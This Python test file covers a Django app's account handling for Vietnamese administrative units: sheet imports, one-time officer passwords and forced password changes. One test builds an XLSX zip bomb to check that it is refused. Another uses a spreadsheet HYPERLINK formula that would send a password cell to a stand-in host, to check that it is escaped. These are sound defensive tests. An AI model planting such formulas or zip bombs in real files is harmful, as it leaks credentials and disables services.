"""Accounts for every unit: the users import (CSV/XLSX, all or nothing, idempotent), one officer
per unit in bulk with one-time passwords, the password change forced at the first sign-in."""

from __future__ import annotations

import base64
import re

import pytest
from django.contrib.auth import get_user_model
from django.core.management import CommandError, call_command
from django.urls import reverse

from chidao.organisation import accounts
from chidao.organisation.models import Profile, Unit, UnitKind

HEADER = "ho va ten;TEN DANG NHAP;Đơn vị;Chức vụ;Vai trò;Email;Điện thoại\n"


def write(tmp_path, text, name="nguoidung.csv"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def legacy_an_binh(db):
    district = Unit.objects.create(
        province_code="38", kind=UnitKind.DISTRICT, name="Huyện Hoằng Lộc", code="380"
    )
    return Unit.objects.create(
        province_code="38",
        kind=UnitKind.LEGACY_COMMUNE,
        name="Xã An Bình",
        code="15001",
        parent=district,
    )


def test_it_imports_a_sheet_matching_headers_without_diacritics_and_units_by_name_or_code(
    tmp_path, unit_a, unit_b, legacy_an_binh
):
    path = write(
        tmp_path,
        HEADER
        + "Nguyễn Thị Hoa;hoa.nt;Xã An Bình;Công chức văn phòng;Cán bộ đơn vị;hoa@anbinh.vn;0912000111\n"
        + "Lê Văn Tám;tam.lv;90002;Phó Chủ tịch;can bo;;\n",
    )

    plan = accounts.plan_import(accounts.read_sheet(path), province_code="38", source=str(path))
    created = accounts.import_users(plan=plan, province_code="38")

    hoa = Profile.objects.select_related("user", "unit").get(user__username="hoa.nt")
    assert (hoa.unit, hoa.title, hoa.phone, hoa.user.email, hoa.user.first_name) == (
        unit_a,  # today's commune, not the pre-2025 one of the same name
        "Công chức văn phòng",
        "0912000111",
        "hoa@anbinh.vn",
        "Nguyễn Thị Hoa",
    )
    assert Profile.objects.get(user__username="tam.lv").unit == unit_b
    assert hoa.must_change_password and len(created) == 2
    assert get_user_model().objects.get(username="hoa.nt").check_password(created[0].password)


def test_a_sheet_with_a_bad_row_says_which_and_writes_nothing(tmp_path, unit_a):
    path = write(
        tmp_path,
        HEADER
        + "Nguyễn Thị Hoa;hoa.nt;Xã An Bình;;Cán bộ đơn vị;;\n"
        + "Trần Văn Khoa;khoa tv;Xã Không Có;;Thủ trưởng;khoa@;\n",
    )

    plan = accounts.plan_import(accounts.read_sheet(path), province_code="38", source=str(path))

    (bad,) = plan.errors
    assert bad.row == 3
    text = "; ".join(bad.errors)
    assert "Tên đăng nhập" in text and "Xã Không Có" in text and "Vai trò" in text
    assert "Email" in text
    with pytest.raises(accounts.ImportError_, match="1 dòng có lỗi"):
        accounts.import_users(plan=plan, province_code="38")
    assert not get_user_model().objects.filter(username="hoa.nt").exists()


def test_running_the_command_twice_creates_nothing_twice(tmp_path, unit_a, capsys):
    path = write(tmp_path, HEADER + "Nguyễn Thị Hoa;hoa.nt;An Bình;;Cán bộ đơn vị;;\n")
    out = tmp_path / "matkhau.csv"

    call_command("users", "import", str(path), "--province", "Thanh Hóa", "--passwords", str(out))
    call_command("users", "import", str(path), "--province", "Thanh Hóa")

    assert get_user_model().objects.filter(username="hoa.nt").count() == 1
    assert "0 tài khoản mới, 1 đã có" in capsys.readouterr().out
    assert (out.stat().st_mode & 0o777) == 0o600 and "hoa.nt" in out.read_text("utf-8-sig")


def test_the_command_names_the_file_and_the_missing_column(tmp_path, db):
    path = write(tmp_path, "Họ và tên,Đơn vị\nNguyễn Thị Hoa,Xã An Bình\n")
    with pytest.raises(CommandError, match=r"nguoidung\.csv: thiếu cột “Tên đăng nhập”"):
        call_command("users", "import", str(path))


def test_it_reads_an_xlsx_sheet(tmp_path, unit_a):
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["Họ và tên", "Tên đăng nhập", "Đơn vị", "Vai trò"])
    wb.active.append(["Phạm Minh Đức", "duc.pm", "90001", "Cán bộ đơn vị"])
    path = tmp_path / "nguoidung.xlsx"
    wb.save(path)

    (row,) = accounts.read_sheet(path)

    assert row == {
        "full_name": "Phạm Minh Đức",
        "username": "duc.pm",
        "unit": "90001",
        "role": "Cán bộ đơn vị",
    }


def test_an_xlsx_zip_bomb_is_refused_before_it_is_parsed_naming_the_file(tmp_path):
    """A 120 kB sheet whose XML inflates to 120 MB: refused by the ratio and the bytes
    inflated (the application's one spreadsheet reader), not parsed for minutes."""
    import io
    import zipfile

    from openpyxl import Workbook

    real = io.BytesIO()
    Workbook().save(real)
    buf = io.BytesIO()
    member = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(real) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            if info.filename != member:
                z.writestr(info.filename, src.read(info))
        z.writestr(member, b"<worksheet>" + b" " * (120 * 1024 * 1024))
    path = tmp_path / "nguoidung.xlsx"
    path.write_bytes(buf.getvalue())

    with pytest.raises(accounts.ImportError_, match=r"nguoidung\.xlsx: .*ZIP bomb"):
        accounts.read_sheet(path)


def test_a_name_shared_by_two_current_units_asks_for_the_code(unit_a, db):
    Unit.objects.create(province_code="38", kind=UnitKind.WARD, name="Xã An Bình", code="90009")
    unit, why = accounts.find_unit("38", "Xã An Bình")
    assert unit is None and "hãy ghi mã đơn vị" in why and "90009" in why


def test_the_office_creates_one_officer_per_unit_and_sees_the_passwords_once(
    client, office, unit_a, unit_b, officer_b
):
    client.force_login(office)
    page = client.get(reverse("organisation:officer_accounts")).content.decode()
    assert "Xã An Bình" in page and "Xã Bình Minh" not in page  # Bình Minh has its officer

    response = client.post(reverse("organisation:officer_accounts"), {"units": [unit_a.pk]})

    html = response.content.decode()
    profile = Profile.objects.get(unit=unit_a, role="officer")
    assert profile.must_change_password and profile.user.username == "canbo_anbinh"
    password = re.search(r"<td data-label=\"Mật khẩu tạm thời\"><code>([^<]+)</code>", html)[1]
    assert profile.user.check_password(password)
    data = re.search(r'base64,([A-Za-z0-9+/=]+)"', html)[1]
    assert password in base64.b64decode(data).decode("utf-8-sig")
    again = client.get(reverse("organisation:officer_accounts")).content.decode()
    assert password not in again and "Mọi đơn vị đã có tài khoản cán bộ." in again


def test_officers_may_not_create_accounts(client, officer_a):
    client.force_login(officer_a)
    assert client.get(reverse("organisation:officer_accounts")).status_code == 403


def test_a_temporary_password_must_be_changed_before_anything_else(client, unit_a):
    (new,) = accounts.create_unit_officers(province_code="38", units=[unit_a])
    assert client.login(username=new.username, password=new.password)

    response = client.get(reverse("tasks:inbox"))
    assert response.status_code == 302 and response["Location"] == reverse("password_change")

    response = client.post(
        reverse("password_change"),
        {
            "old_password": new.password,
            "new_password1": "song-hong-chay-qua-2026",
            "new_password2": "song-hong-chay-qua-2026",
        },
    )
    assert response.status_code == 302
    assert client.get(reverse("tasks:inbox")).status_code == 200
    assert not Profile.objects.get(unit=unit_a).must_change_password


def test_a_fragment_asked_for_by_the_password_page_does_not_reload_it(client, unit_a):
    """The header's bell asks for a fragment as the page loads; sending the browser to the
    password page again from the password page would reload it forever."""
    (new,) = accounts.create_unit_officers(province_code="38", units=[unit_a])
    assert client.login(username=new.username, password=new.password)
    page = "http://testserver" + reverse("password_change")

    from_the_page = client.get(
        reverse("tasks:inbox"), headers={"HX-Request": "true", "HX-Current-URL": page}
    )
    assert from_the_page.status_code == 204 and "HX-Redirect" not in from_the_page

    from_elsewhere = client.get(
        reverse("tasks:inbox"),
        headers={"HX-Request": "true", "HX-Current-URL": "http://testserver/tasks/inbox/"},
    )
    assert from_elsewhere.status_code == 204
    assert from_elsewhere["HX-Redirect"] == reverse("password_change")


def test_the_account_menu_offers_the_password_change_and_a_visible_logout(client, officer_a):
    client.force_login(officer_a)
    page = client.get(reverse("tasks:inbox")).content.decode()
    assert f'href="{reverse("password_change")}"' in page
    assert '<form class="logout"' in page


def test_a_pre_2025_unit_is_labelled_with_its_era_and_district(legacy_an_binh):
    assert legacy_an_binh.label == "Xã An Bình (trước 7/2025, huyện Hoằng Lộc)"


def test_unit_pickers_sort_in_vietnamese_order():
    from chidao.organisation.collation import vi_sorted

    names = ["Xã Đông Sơn", "Xã Ân Tiến", "Xã Dân Chủ", "Xã An Bình", "Xã Ăn Lạc"]
    assert vi_sorted(names) == [
        "Xã An Bình",
        "Xã Ăn Lạc",
        "Xã Ân Tiến",
        "Xã Dân Chủ",
        "Xã Đông Sơn",
    ]


def test_the_admin_fills_the_province_and_keeps_the_passwords_after_an_error(client, admin):
    client.force_login(admin)
    form = client.get("/admin/auth/user/add/").content.decode()
    assert "Password-based authentication" not in form
    response = client.post(
        "/admin/auth/user/add/",
        {
            "username": "bad name!",
            "password1": "song-hong-chay-qua-2026",
            "password2": "song-hong-chay-qua-2026",
            "profile-TOTAL_FORMS": "1",
            "profile-INITIAL_FORMS": "0",
            "profile-MIN_NUM_FORMS": "0",
            "profile-MAX_NUM_FORMS": "1",
        },
    )
    html = response.content.decode()
    assert response.status_code == 200 and 'value="song-hong-chay-qua-2026"' in html
    assert 'name="profile-0-province_code"' in html and 'value="38"' in html


def test_the_admin_unit_search_labels_and_orders_legacy_units_last(
    client, admin, unit_a, legacy_an_binh
):
    client.force_login(admin)
    response = client.get(
        "/admin/autocomplete/",
        {
            "term": "an binh",
            "app_label": "organisation",
            "model_name": "profile",
            "field_name": "unit",
        },
    )
    texts = [r["text"] for r in response.json()["results"]]
    assert texts == ["Xã An Bình", "Xã An Bình (trước 7/2025, huyện Hoằng Lộc)"]


def test_the_password_list_writes_a_name_that_looks_like_a_formula_as_text():
    """A name from an uploaded sheet starting with "=" never becomes a live formula."""
    link = '=HYPERLINK("http://x.example/?p="&D2,"Mở")'
    made = accounts.NewAccount(
        username="canbo_tanphu", full_name=link, unit="-Xã Tân Phú", password="abcd-efgh-ijkm-npqr"
    )
    rows = accounts.accounts_csv([made]).decode("utf-8-sig").splitlines()
    assert (
        rows[1]
        == 'canbo_tanphu,"\'=HYPERLINK(""http://x.example/?p=""&D2,""Mở"")",\'-Xã Tân Phú,abcd-efgh-ijkm-npqr'
    )
